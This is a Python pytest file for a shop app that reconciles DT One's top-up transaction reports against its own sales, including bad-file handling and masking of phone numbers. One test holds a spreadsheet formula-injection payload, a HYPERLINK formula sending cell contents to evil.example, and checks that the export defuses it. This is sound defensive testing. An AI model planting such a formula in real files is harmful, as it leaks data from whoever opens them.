"""A provider's transaction report set against the sales, from real CSV files (both databases)."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select, update

from counter_app.domain.errors import InputError, NotAllowed
from counter_app.domain.sales import SaleKind, SaleView
from counter_app.domain.staff import Clerk
from counter_app.domain.tenders import Tender, TenderKind
from counter_app.services import catalog_admin, outbox, reconcile, reversals, sales, shifts, staff
from counter_app.services.catalog_admin import PlanInput
from counter_app.services.reconcile import DifferenceKind, ReportRefused
from counter_app.store.models import AuditEvent, OutboxJob
from tests.services.conftest import PASSWORD, Shop

# DT One's DT Shop "Transactions" report, as its help page lists the columns (no status:
# it lists what was applied), and the API's own names for an export with a status.
DT_SHOP = (
    "TRANSACTION ID",
    "EXTERNAL ID",
    "PRODUCT ID",
    "CREATION DATE",
    "LAST STATUS UPDATED DATE",
    "PRODUCT NAME",
    "PRODUCT VALUE",
    "SERVICE",
    "SUBSERVICE",
    "OPERATOR COUNTRY",
    "CREDIT PARTY MOBILE NUMBER",
    "BUYING PRICE",
    "BUYING FEE",
    "BUYING CURRENCY",
    "BUYING RATE",
    "REVENUE",
    "PROFIT",
    "USER EMAIL",
    "CREDIT PARTY ACCOUNT NUMBER",
    "DEBIT PARTY MOBILE NUMBER",
    "DEBIT PARTY ACCOUNT NUMBER",
)
WITH_STATUS = (
    "external_id",
    "status",
    "product_id",
    "product_value",
    "creation_date",
    "mobile_number",
)


@pytest.fixture
def admin(shop: Shop) -> Clerk:
    staff.create_user(
        shop.db, None, username="boss", display_name="Boss", role="admin", password=PASSWORD
    )
    return shop.sign_in("boss")


@pytest.fixture
def supervisor(shop: Shop) -> Clerk:
    return shop.sign_in("supervisor")


def _plan(shop: Shop, code: str) -> PlanInput:
    row = next(p for p in catalog_admin.list_plans(shop.db) if p.code == code)
    return PlanInput(
        carrier_code=row.carrier_code,
        code=row.code,
        kind=row.kind,
        name_zh=row.name_zh,
        name_en=row.name_en,
        price=row.price,
        months=row.months,
        credit=row.credit,
        data_mb=row.data_mb,
        minutes=row.minutes,
        card_types=frozenset(row.card_types),
        valid_from=row.valid_from,
        valid_to=row.valid_to,
        needs_identity=row.needs_identity,
        active=row.active,
        provider_product=row.provider_product,
    )


@pytest.fixture
def dtone_shop(shop: Shop, admin: Clerk, clerk: Clerk) -> Shop:
    """Bauhinia's top-ups go to DT One (HK$100 and HK$50 mapped); a shift is open."""
    for code, product in (("BAU-T100", "HK-BAU-100"), ("BAU-T050", "HK-BAU-50")):
        catalog_admin.update_plan(
            shop.db, admin, replace(_plan(shop, code), provider_product=product)
        )
    carrier = next(c for c in catalog_admin.list_carriers(shop.db) if c.code == "BAUHINIA")
    catalog_admin.update_carrier(
        shop.db,
        admin,
        "BAUHINIA",
        accepted_id_types=carrier.accepted_id_types,
        hotline=carrier.hotline,
        grace_days=carrier.grace_days,
        recycle_days=carrier.recycle_days,
        fulfilment_provider="dtone",
    )
    shifts.open_shift(shop.db, clerk, shop.counter_id, 0, clock=shop.clock)
    return shop


def top_up(shop: Shop, clerk: Clerk, plan_code: str = "BAU-T100", total: int = 10_000) -> str:
    """A top-up of the first demo line, paid in cash; its fulfilment job's reference."""
    line_id = shop.set_line(shop.built.samples[0].msisdn)
    draft = sales.start_sale(
        shop.db, clerk, shop.counter_id, SaleKind.LINE, line_id=line_id, clock=shop.clock
    )
    sale: SaleView = sales.complete_line_sale(
        shop.db,
        clerk,
        draft.uuid,
        plan_code=plan_code,
        tenders=[Tender(TenderKind.CASH, total)],
        clock=shop.clock,
    )
    shop.clock.advance(minutes=1)
    return f"{sale.receipt_no}/1"


def receipt(reference: str) -> str:
    return reference.rsplit("/", 1)[0]


def job_id(shop: Shop, reference: str) -> int:
    with shop.db.read() as session:
        return session.scalars(select(OutboxJob.id).where(OutboxJob.reference == reference)).one()


def set_job(shop: Shop, reference: str, **values: object) -> None:
    with shop.db.write() as session:
        session.execute(update(OutboxJob).where(OutboxJob.reference == reference).values(**values))


def write_report(path: Path, columns: tuple[str, ...], rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns, restval="")
        writer.writeheader()
        writer.writerows(rows)
    return path


def row(reference: str, status: str, amount: str = "100.00", **changes: str) -> dict[str, str]:
    return {
        "external_id": reference,
        "status": status,
        "product_id": "HK-BAU-100",
        "product_value": amount,
        "creation_date": "2026-11-21T02:30:00Z",
        "mobile_number": "+85296000000",
        **changes,
    }


@dataclass
class Month:
    """A morning's DT One sales and the report that lists them (with its differences)."""

    refs: dict[str, str]
    report: Path


@pytest.fixture
def month(dtone_shop: Shop, clerk: Clerk, supervisor: Clerk, tmp_path: Path) -> Month:
    shop = dtone_shop
    refs = {name: top_up(shop, clerk) for name in ("ok", "missing", "twice", "voided")}
    refs["cheaper"] = top_up(shop, clerk, "BAU-T050", 5_000)
    refs["declined"] = top_up(shop, clerk)
    refs["failed_here"] = top_up(shop, clerk)
    refs["elsewhere"] = top_up(shop, clerk)
    refs["on_its_way"] = top_up(shop, clerk)
    refs["manual"] = top_up(shop, clerk, "BAU-T200", 20_000)  # no product id: by hand
    reversals.reverse_sale(
        shop.db,
        clerk,
        shop.counter_id,
        receipt(refs["voided"]),
        supervisor_username="supervisor",
        supervisor_password=PASSWORD,
        reason="customer changed their mind",
        clock=shop.clock,
    )
    # The job of the voided sale had left already (the provider applied it).
    set_job(shop, refs["voided"], state="confirmed", sends=1)
    outbox.applied_by_hand(shop.db, clerk, job_id(shop, refs["declined"]), "BAU-7781")
    set_job(shop, refs["failed_here"], state="failed", sends=1)
    report = write_report(
        tmp_path / "dtone-2026-11-21.csv",
        WITH_STATUS,
        [
            row(refs["ok"], "COMPLETED"),
            row(refs["twice"], "COMPLETED"),
            row(refs["twice"], "7", creation_date="2026-11-21T02:31:00.000000000Z"),
            row(refs["voided"], "COMPLETED"),
            row(refs["cheaper"], "COMPLETED", "40.00"),
            row(refs["declined"], "DECLINED"),
            row(refs["failed_here"], "COMPLETED"),
            row(refs["elsewhere"], "COMPLETED", mobile_number="+852 9600 0099"),
            row(refs["on_its_way"], "SUBMITTED"),
            row("DEMO-C1-999999/1", "COMPLETED", creation_date="2026-11-21 18:00:00+08:00"),
            row("DEMO-C1-999998/1", "DECLINED"),  # never applied: nothing to claim
        ],
    )
    return Month(refs, report)


def kinds(result: reconcile.Reconciliation) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for difference in result.differences:
        found.setdefault(difference.reference, []).append(difference.kind.value)
    return found


def test_what_differs_between_the_sales_and_the_providers_report(
    dtone_shop: Shop, supervisor: Clerk, month: Month
) -> None:
    shop, refs = dtone_shop, month.refs
    report = reconcile.read_report(month.report)
    assert len(report.rows) == 11 and report.first_day == report.last_day == date(2026, 11, 21)
    assert report.columns == {
        "reference": "external_id",
        "date": "creation_date",
        "number": "mobile_number",
        "amount": "product_value",
        "product": "product_id",
        "status": "status",
    }
    result = reconcile.reconcile(shop.db, supervisor, report, clock=shop.clock)
    assert kinds(result) == {
        refs["twice"]: ["applied_twice"],
        refs["voided"]: ["not_sold"],
        "DEMO-C1-999999/1": ["not_sold"],
        refs["missing"]: ["not_applied"],
        refs["declined"]: ["state_differs"],
        refs["failed_here"]: ["state_differs"],
        refs["elsewhere"]: ["number_differs"],
        refs["cheaper"]: ["amount_differs", "product_differs"],
    }
    # Most urgent first: money the provider took twice, then what nobody paid for.
    assert [d.kind for d in result.differences][:3] == [
        DifferenceKind.APPLIED_TWICE,
        DifferenceKind.NOT_SOLD,
        DifferenceKind.NOT_SOLD,
    ]
    # The voided sale is not expected there, and the top-up without a product id is the clerk's.
    assert (result.rows, result.jobs) == (11, 8)
    by_ref = {(d.reference, d.kind): d for d in result.differences}
    missing = by_ref[refs["missing"], DifferenceKind.NOT_APPLIED]
    assert (missing.receipt_no, missing.sale_state, missing.job_state) == (
        receipt(refs["missing"]),
        "completed",
        "pending",
    )
    assert missing.here_amount == 10_000 and missing.line_no is None
    assert missing.here_number == "+852 9600 ••00"
    cheaper = by_ref[refs["cheaper"], DifferenceKind.AMOUNT]
    assert (cheaper.here_amount, cheaper.there_amount, cheaper.line_no) == (5_000, 4_000, 6)
    assert cheaper.detail == "sold for HK$50.00, applied for HK$40.00"
    assert by_ref[refs["declined"], DifferenceKind.STATE].detail == (
        "confirmed here, declined at dtone"
    )
    assert by_ref[refs["failed_here"], DifferenceKind.STATE].detail == (
        "failed here, applied by dtone"
    )
    assert "voided" in by_ref[refs["voided"], DifferenceKind.NOT_SOLD].detail
    elsewhere = by_ref[refs["elsewhere"], DifferenceKind.NUMBER]
    assert (elsewhere.here_number, elsewhere.there_number) == ("+852 9600 ••00", "+852 9600 ••99")
    twice = by_ref[refs["twice"], DifferenceKind.APPLIED_TWICE]
    assert twice.detail == "applied 2 times (file lines 3, 4)"
    # No full number anywhere in what a supervisor reads.
    shown = "\n".join(reconcile.table(result))
    assert "96000000" not in shown and "96000099" not in shown
    assert shown.splitlines()[0].split() == ["difference", "reference", "here", "there", "detail"]
    assert "paid here, not applied there" in shown and "applied there, not sold here" in shown
    with shop.db.read() as session:
        (event,) = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "outbox.reconciled")
        ).all()
    assert event.staff_id == supervisor.id and event.subject == "dtone-2026-11-21.csv"
    assert event.details["differences"] == {
        "amount_differs": 1,
        "applied_twice": 1,
        "not_applied": 1,
        "not_sold": 2,
        "number_differs": 1,
        "product_differs": 1,
        "state_differs": 2,
    }


def test_a_sale_of_a_day_the_report_does_not_cover_is_looked_for_only_when_asked(
    dtone_shop: Shop, clerk: Clerk, supervisor: Clerk, tmp_path: Path
) -> None:
    shop = dtone_shop
    yesterday = top_up(shop, clerk)
    shop.clock.advance(days=1)
    today = top_up(shop, clerk)
    path = write_report(
        tmp_path / "r.csv", WITH_STATUS, [row(today, "COMPLETED", creation_date="2026-11-22")]
    )
    report = reconcile.read_report(path)
    assert kinds(reconcile.reconcile(shop.db, supervisor, report)) == {}
    earlier = reconcile.reconcile(shop.db, supervisor, report, first_day=date(2026, 11, 21))
    assert kinds(earlier) == {yesterday: ["not_applied"]}
    with pytest.raises(InputError) as backwards:
        reconcile.reconcile(
            shop.db, supervisor, report, first_day=date(2026, 11, 23), last_day=date(2026, 11, 22)
        )
    assert backwards.value.code == "report.dates"


def test_an_earlier_attempt_applied_after_a_retry_is_money_lost(
    dtone_shop: Shop, clerk: Clerk, supervisor: Clerk, tmp_path: Path
) -> None:
    shop = dtone_shop
    first = top_up(shop, clerk)
    set_job(shop, first, state="failed", sends=1)
    again = outbox.retry(shop.db, supervisor, job_id(shop, first), clock=shop.clock)
    assert again.reference == f"{first}#2"
    path = write_report(
        tmp_path / "r.csv",
        WITH_STATUS,
        [row(first, "COMPLETED"), row(again.reference, "COMPLETED")],
    )
    result = reconcile.reconcile(shop.db, supervisor, reconcile.read_report(path))
    assert kinds(result) == {first: ["applied_twice"]}
    (difference,) = result.differences
    assert difference.detail == f"an earlier attempt of {first}#2 was applied as well"


def test_dt_shops_transactions_report_without_a_status_column(
    dtone_shop: Shop, clerk: Clerk, supervisor: Clerk, tmp_path: Path
) -> None:
    shop = dtone_shop
    applied, missing = top_up(shop, clerk), top_up(shop, clerk)
    values = dict.fromkeys(DT_SHOP, "")
    values |= {
        "TRANSACTION ID": "2237465321",
        "EXTERNAL ID": applied,
        "PRODUCT ID": "HK-BAU-100",
        "CREATION DATE": "2026-11-21 02:05:11",
        "PRODUCT VALUE": "HKD 100.000000",
        "CREDIT PARTY MOBILE NUMBER": "85296000000",
        "BUYING PRICE": "12.31",
        "BUYING CURRENCY": "USD",
    }
    path = tmp_path / "Transactions_2026-11.csv"
    # Semicolons, as a spreadsheet set to a European locale saves it.
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(DT_SHOP)
        writer.writerow([values[name] for name in DT_SHOP])
    report = reconcile.read_report(path)
    (only,) = report.rows
    assert (only.state, only.status, only.amount, only.number) == (
        reconcile.TheirState.APPLIED,
        "COMPLETED",
        10_000,
        "85296000000",
    )
    assert kinds(reconcile.reconcile(shop.db, supervisor, report)) == {missing: ["not_applied"]}
    # The same file read as DT Shop's Pending report: nothing applied, nothing differs yet.
    pending = reconcile.read_report(path, status="PENDING")
    assert kinds(reconcile.reconcile(shop.db, supervisor, pending)) == {missing: ["not_applied"]}
    with pytest.raises(InputError) as unknown:
        reconcile.read_report(path, status="DONE")
    assert unknown.value.code == "reconcile.status"


def test_the_csv_of_the_differences(
    dtone_shop: Shop, clerk: Clerk, supervisor: Clerk, tmp_path: Path
) -> None:
    shop = dtone_shop
    missing = top_up(shop, clerk)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"claim")'
    path = write_report(tmp_path / "r.csv", WITH_STATUS, [row(formula, "COMPLETED")])
    result = reconcile.reconcile(shop.db, supervisor, reconcile.read_report(path))
    out = tmp_path / "differences.csv"
    reconcile.write_csv(shop.db, supervisor, result, out, clock=shop.clock)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == list(reconcile.CSV_COLUMNS)
    by_kind = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_kind["not_sold"]["reference"] == "'" + formula
    assert by_kind["not_sold"]["there_number"] == "'+852 9600 ••00"  # + starts a formula
    assert by_kind["not_sold"]["there_time"] == "2026-11-21T10:30:00+08:00"
    assert by_kind["not_sold"]["file_line"] == "2"
    assert by_kind["not_applied"]["reference"] == missing
    assert by_kind["not_applied"]["here_amount"] == "100.00"
    assert "96000000" not in raw.decode("utf-8-sig")
    with shop.db.read() as session:
        exported = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "outbox.reconciliation_exported")
        ).one()
    assert exported.subject == "differences.csv" and exported.details["differences"] == 2
    with pytest.raises(NotAllowed):
        reconcile.write_csv(shop.db, clerk, result, tmp_path / "clerk.csv")
    with pytest.raises(NotAllowed):
        reconcile.reconcile(shop.db, clerk, reconcile.read_report(path))
    assert not (tmp_path / "clerk.csv").exists()


# --- bad files -------------------------------------------------------------------------------

GOOD = "external_id,status,product_value,creation_date,mobile_number\n"
GOOD_ROW = "DEMO-C1-000001/1,COMPLETED,100.00,2026-11-21T02:30:00Z,+85296000000\n"


def refused(path: Path, **kwargs: object) -> ReportRefused:
    with pytest.raises(ReportRefused) as caught:
        reconcile.read_report(path, **kwargs)  # type: ignore[arg-type]
    return caught.value


@pytest.mark.parametrize(
    ("content", "line", "column", "code", "says"),
    [
        (
            "TRANSACTION ID,EXTERNAL ID,STATUS\n1,DEMO-C1-000001/1,COMPLETED\n",
            1,
            "",
            "reconcile.columns",
            "no column for date (CREATION DATE or DATE or TRANSACTION DATE); number",
        ),
        (
            "external_id,creation_date,mobile_number\nDEMO-C1-000001/1,2026-11-21,85296000000\n",
            1,
            "",
            "reconcile.columns",
            "an amount (PRODUCT VALUE or AMOUNT) or a product (PRODUCT ID)",
        ),
        (
            GOOD + GOOD_ROW + GOOD_ROW.replace("100.00", "12.345"),
            3,
            "product_value",
            "reconcile.amount",
            "'12.345' is not an amount in whole cents",
        ),
        (
            GOOD + GOOD_ROW.replace("100.00", "USD 12.80"),
            2,
            "product_value",
            "reconcile.amount",
            "is not in HK$ (it says USD)",
        ),
        (
            GOOD + GOOD_ROW.replace("COMPLETED", "DONE"),
            2,
            "status",
            "reconcile.status",
            "'DONE' is not a status",
        ),
        (
            GOOD + GOOD_ROW.replace("2026-11-21T02:30:00Z", "21/11/2026 10:30"),
            2,
            "creation_date",
            "reconcile.date",
            "is not a date and time like",
        ),
        (
            GOOD + GOOD_ROW.replace("2026-11-21T02:30:00Z", "2026-02-30"),
            2,
            "creation_date",
            "reconcile.date",
            "not a date and time in the calendar",
        ),
        (
            GOOD + GOOD_ROW.replace("+85296000000", "call me"),
            2,
            "mobile_number",
            "reconcile.number",
            "not a phone number",
        ),
        (
            GOOD + GOOD_ROW.replace("DEMO-C1-000001/1", ""),
            2,
            "external_id",
            "reconcile.reference",
            "empty",
        ),
        (
            GOOD + GOOD_ROW + "DEMO-C1-000002/1,COMPLETED,100.00\n",
            3,
            "",
            "import.fields",
            "expected 5 fields as in the header, found 3",
        ),
        (
            GOOD + '"DEMO-C1-000001/1"x,COMPLETED,100.00,2026-11-21,85296000000\n',
            2,
            "",
            "import.csv",
            "not a well-formed CSV line",
        ),
        (GOOD, 2, "", "reconcile.empty", "holds no transactions"),
        ("\n\n", 1, "", "reconcile.columns", "the file is empty"),
    ],
)
def test_a_bad_report_is_refused_naming_the_line_and_the_column(
    tmp_path: Path, content: str, line: int, column: str, code: str, says: str
) -> None:
    path = tmp_path / "report.csv"
    path.write_text(content, encoding="utf-8")
    problem = refused(path).problems[0]
    assert (problem.line_no, problem.column, problem.code) == (line, column, code)
    assert says in problem.message, problem.message


def test_every_bad_line_is_listed_at_once(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    bad_amount = GOOD_ROW.replace("100.00", "ten dollars")
    bad_both = GOOD_ROW.replace("COMPLETED", "??").replace("+85296000000", "-")
    path.write_text(GOOD + GOOD_ROW + bad_amount + GOOD_ROW + bad_both, encoding="utf-8")
    error = refused(path)
    assert [(p.line_no, p.column) for p in error.problems] == [
        (3, "product_value"),
        (5, "status"),
        (5, "mobile_number"),
    ]
    assert str(error).startswith("report.csv: line 3, column 'product_value': 'ten dollars'")
    assert str(error).endswith("(and 2 more problems)")


def test_a_report_saved_in_big5_names_the_line_and_column_of_the_first_bad_byte(
    tmp_path: Path,
) -> None:
    path = tmp_path / "report.csv"
    text = GOOD.replace("mobile_number", "mobile_number,product_name") + (
        GOOD_ROW.rstrip("\n") + ",紫荊 HK$100 增值\n"
    )
    path.write_bytes(text.encode("big5"))
    problem = refused(path).problems[0]
    assert (problem.line_no, problem.column, problem.code) == (2, "product_name", "import.encoding")
    assert "save the report as CSV UTF-8" in problem.message


def test_a_file_that_is_not_a_csv_at_all(tmp_path: Path) -> None:
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    problem = refused(pdf).problems[0]
    assert (problem.line_no, problem.code) == (2, "import.encoding")
    with pytest.raises(InputError) as folder:
        reconcile.read_report(tmp_path)
    assert folder.value.code == "import.no_file"
    with pytest.raises(InputError) as nothing:
        reconcile.read_report(tmp_path / "no-such.csv")
    assert nothing.value.code == "import.no_file"


def test_excels_unicode_text_and_a_column_named_otherwise(tmp_path: Path) -> None:
    # Excel's "Unicode Text": UTF-16 with a byte-order mark, separated by tabs.
    path = tmp_path / "report.txt"
    lines = [
        "Reference\tState\tRETAIL PRICE\tPRODUCT VALUE\tWhen\tMSISDN",
        "DEMO-C1-000001/1\tCompleted (7)\tHK$1,000.50\tUSD 129.00\t2026-11-21 10:30+0800"
        "\t85296000000",
    ]
    path.write_bytes("\r\n".join(lines).encode("utf-16"))
    columns = {"status": "state", "amount": "retail price", "date": "WHEN", "number": "msisdn"}
    report = reconcile.read_report(path, columns=columns)
    (only,) = report.rows
    assert (only.reference, only.state, only.amount) == (
        "DEMO-C1-000001/1",
        reconcile.TheirState.APPLIED,
        100_050,
    )
    assert only.made_at.isoformat() == "2026-11-21T02:30:00+00:00"
    # Two columns for one field, or a field Counter does not read, are the header's problem.
    with pytest.raises(ReportRefused) as unknown:
        reconcile.read_report(path, columns={**columns, "colour": "State"})
    assert "Counter reads no field colour" in unknown.value.problems[0].message
    left_out = reconcile.read_report(
        path, columns={**columns, "amount": "", "product": "Reference"}
    )
    assert left_out.rows[0].amount is None


# --- from the command line -------------------------------------------------------------------


def counter_app(url: str, *args: str, user: str = "supervisor") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "counter_app", "--database-url", url, *args, "--staff", user],
        capture_output=True,
        text=True,
        input=PASSWORD + "\n",
        timeout=120,
        env=dict(os.environ),
        check=False,
    )


@pytest.mark.slow
def test_counter_app_reconcile(
    month: Month, database_url: str, counter_home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "differences.csv"
    done = counter_app(database_url, "reconcile", str(month.report), "--out", str(out))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == (
        "dtone-2026-11-21.csv: 11 transactions; 8 sales sent to dtone from 2026-11-21 to "
        "2026-11-21 (HK dates)"
    )
    assert lines[2].split() == ["difference", "reference", "here", "there", "detail"]
    assert any(
        line.startswith("applied twice there") and month.refs["twice"] in line for line in lines
    )
    missing = next(line for line in lines if month.refs["missing"] in line)
    assert missing.startswith("paid here, not applied there")
    assert "pending HK$100.00" in missing
    assert "9 difference(s)" in lines and f"wrote 9 difference(s) to {out}" in lines
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "96000000" not in done.stdout

    clerk = counter_app(database_url, "reconcile", str(month.report), user="clerk")
    assert clerk.returncode == 2 and "needs a supervisor" in clerk.stderr

    bad = tmp_path / "bad.csv"
    bad.write_text(GOOD + GOOD_ROW.replace("100.00", "1O0.00") + GOOD_ROW, encoding="utf-8")
    refused_run = counter_app(database_url, "reconcile", str(bad))
    assert refused_run.returncode == 2
    assert f"{bad}:2: product_value: '1O0.00' is not an amount like 100.00" in refused_run.stderr
    assert "nothing was compared" in refused_run.stderr
    help_text = subprocess.run(
        [sys.executable, "-m", "counter_app", "reconcile", "--help"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    described = " ".join(help_text.split())
    assert "EXTERNAL ID (our reference)" in described
    assert "CREDIT PARTY MOBILE NUMBER are required" in described
